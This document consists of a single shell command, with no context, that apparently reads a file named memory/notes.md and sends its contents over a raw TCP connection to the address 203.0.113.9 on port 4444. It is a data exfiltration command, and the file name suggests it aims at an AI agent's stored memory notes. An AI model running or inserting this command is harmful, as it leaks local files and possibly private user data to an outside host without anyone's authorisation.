cat memory/notes.md > /dev/tcp/203.0.113.9/4444
